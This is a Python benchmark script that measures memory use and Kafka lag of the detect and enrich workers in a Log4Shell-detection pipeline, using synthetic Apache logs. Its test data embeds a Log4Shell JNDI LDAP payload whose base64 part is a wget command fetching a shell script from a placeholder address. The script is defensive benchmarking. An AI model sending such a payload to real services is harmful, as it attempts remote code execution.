"""Peak memory of the detect and enrich workers under many sources and a burst.

Runs real ``l4s detect`` and ``l4s enrich`` processes against the local stack
(``deploy/local/stack up`` first; the same L4S_STACK_* variables pick the stack)
and samples each worker's resident set size (RSS) with psutil every 0.2 s.

- sources: ``--lines`` benign records (default 1,000,000), every one from a
  different client address, with ``--attackers`` dropper attempts (default
  20,000) from as many different addresses, each of which ends on the blocklist;
  RSS of enrich is also read at each quarter of the attackers, which gives its
  growth per blocked source.
- burst: a steady ``--rate`` (default 5,000 records/s) for 20 s, ten times that
  for 10 s, then steady again for 20 s; consumer lag is read from Kafka.

Prints one JSON line and writes bench/results/memory.json.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shlex
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import psutil

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from tests.conftest import Namespace, Stack  # noqa: E402
from tests.integration.harness import (  # noqa: E402
    GEO,
    group_lag,
    redis_client,
    redis_totals,
    wait_until,
)
from tests.integration.workload import public_addresses  # noqa: E402

_DROPPER = "${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTkyLjAuMi44MC9sLnNo}"


class Sampler:
    """Samples the RSS of one process (and its children) in a thread."""

    def __init__(self, pid: int) -> None:
        self.process = psutil.Process(pid)
        self.peak = 0
        self.last = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                rss = self.process.memory_info().rss
            except psutil.Error:
                return
            self.last = rss
            self.peak = max(self.peak, rss)
            time.sleep(0.2)

    def stop(self) -> None:
        self._stop.set()
        self._thread.join()


def stack() -> Stack:
    out = subprocess.run(
        [str(REPO / "deploy/local/stack"), "env"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    values = {}
    for line in out.splitlines():
        name, _, value = line.removeprefix("export ").partition("=")
        values[name] = shlex.split(value)[0]
    return Stack(values["L4S_KAFKA__BOOTSTRAP"], values["L4S_REDIS__URL"])


def start(ns: Namespace, log: Path, *args: str) -> subprocess.Popen[bytes]:
    with log.open("wb") as out:
        return subprocess.Popen(
            [sys.executable, "-m", "pipeline", "--log-format", "json", *args],
            stdout=out,
            stderr=subprocess.STDOUT,
            env=ns.env,
            cwd=REPO,
        )


def write_sources(path: Path, lines: int, attackers: int) -> None:
    rng = random.Random(7)
    addresses = public_addresses(lines + attackers, rng)
    benign = (REPO / "samples/demo/apache_logs").read_bytes().splitlines()
    every = max(1, lines // max(1, attackers))
    with path.open("wb") as out:
        a = 0
        for i in range(lines):
            rest = benign[i % len(benign)].split(b" ", 1)[1]
            out.write(addresses[i].encode() + b" " + rest + b"\n")
            if i % every == 0 and a < attackers:
                line = (
                    f"{addresses[lines + a]} - - [10/Dec/2021:14:25:38 +0000] "
                    f'"GET / HTTP/1.1" 200 5 "-" "{_DROPPER}"\n'
                )
                out.write(line.encode())
                a += 1


def mb(value: int) -> float:
    return round(value / 2**20, 1)


def run(args: argparse.Namespace) -> dict[str, object]:
    ns = Namespace(f"bm{uuid.uuid4().hex[:8]}", stack())
    tmp = Path(tempfile.mkdtemp(prefix="l4s-bench-memory-"))
    subprocess.run(
        [sys.executable, "-m", "pipeline", "topics", "create"],
        env=ns.env,
        cwd=REPO,
        check=True,
        capture_output=True,
    )
    data = tmp / "sources.log"
    write_sources(data, args.lines, args.attackers)
    total = args.lines + args.attackers
    subprocess.run(
        [sys.executable, "-m", "pipeline", "replay", "--no-progress", str(data)],
        env=ns.env,
        cwd=REPO,
        check=True,
        capture_output=True,
    )
    redis = redis_client(ns)
    redis_before = int(redis.info("memory")["used_memory"])
    detect = start(ns, tmp / "detect.log", "detect")
    enrich = start(ns, tmp / "enrich.log", "enrich", *GEO)
    d_rss, e_rss = Sampler(detect.pid), Sampler(enrich.pid)
    quarters: list[float] = []
    started = time.monotonic()
    for quarter in (1, 2, 3, 4):
        wait_until(
            lambda q=quarter: (
                redis_totals(ns).get("attacks", 0) >= args.attackers * q // 4
            ),
            1800,
            f"quarter {quarter} of the attackers",
            every=0.5,
        )
        quarters.append(mb(e_rss.last))
    wait_until(lambda: redis_totals(ns).get("lines") == total, 600, "the detect worker")
    sources_seconds = round(time.monotonic() - started, 1)
    redis_after = int(redis.info("memory")["used_memory"])
    redis_per_source = round((redis_after - redis_before) / args.attackers)
    sources = {
        "detect_peak_rss_mb": mb(d_rss.peak),
        "enrich_peak_rss_mb": mb(e_rss.peak),
        "enrich_rss_at_quarters_mb": quarters,
        "enrich_growth_bytes_per_blocked_source": round(
            (quarters[3] - quarters[0]) * 2**20 / (args.attackers * 3 / 4)
        ),
        "seconds": sources_seconds,
    }

    # Burst: steady, ten times the rate, steady again.
    burst_file = tmp / "burst.log"
    benign = (REPO / "samples/demo/apache_logs").read_bytes()
    burst_file.write_bytes(benign * ((args.rate * 50 * 12) // 10_000 + 1))
    lines = burst_file.read_bytes().splitlines()
    d_rss.peak = e_rss.peak = 0
    lags: list[int] = []
    stop_lag = threading.Event()

    def watch_lag() -> None:
        while not stop_lag.is_set():
            lag = group_lag(
                ns, ns.env["L4S_DETECT__GROUP"], ns.env["L4S_TOPICS__INPUT"]
            )
            if lag is not None:
                lags.append(lag)
            time.sleep(1)

    watcher = threading.Thread(target=watch_lag, daemon=True)
    watcher.start()
    offset = 0
    phases = []
    for rate, seconds in ((args.rate, 20), (args.rate * 10, 10), (args.rate, 20)):
        chunk = tmp / f"phase-{rate}-{offset}.log"
        count = rate * seconds
        chunk.write_bytes(b"\n".join(lines[offset : offset + count]) + b"\n")
        offset += count
        t0 = time.monotonic()
        subprocess.run(
            [
                sys.executable,
                "-m",
                "pipeline",
                "replay",
                "--no-progress",
                "--rate",
                str(rate),
                str(chunk),
            ],
            env=ns.env,
            cwd=REPO,
            check=True,
            capture_output=True,
        )
        phases.append(
            {
                "rate": rate,
                "records": count,
                "seconds": round(time.monotonic() - t0, 1),
                "detect_peak_rss_mb": mb(d_rss.peak),
            }
        )
    wait_until(
        lambda: redis_totals(ns).get("lines") == total + offset,
        600,
        "the burst to drain",
    )
    stop_lag.set()
    watcher.join()
    burst = {
        "phases": phases,
        "max_lag": max(lags or [0]),
        "detect_peak_rss_mb": mb(d_rss.peak),
        "enrich_peak_rss_mb": mb(e_rss.peak),
    }
    for process in (detect, enrich):
        process.terminate()
        process.wait(timeout=120)
    d_rss.stop()
    e_rss.stop()
    return {
        "bench": "memory",
        "machine": f"{os.cpu_count()} cores",
        "lines": args.lines,
        "attackers": args.attackers,
        "sources": sources,
        "burst": burst,
        "redis_used_memory_per_attacker_bytes": redis_per_source,
        "namespace": ns.name,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--lines", type=int, default=1_000_000)
    parser.add_argument("--attackers", type=int, default=20_000)
    parser.add_argument("--rate", type=int, default=5_000)
    args = parser.parse_args()
    result = run(args)
    line = json.dumps(result)
    print(line)
    out = REPO / "bench" / "results" / "memory.json"
    out.write_text(line + "\n")


if __name__ == "__main__":
    main()
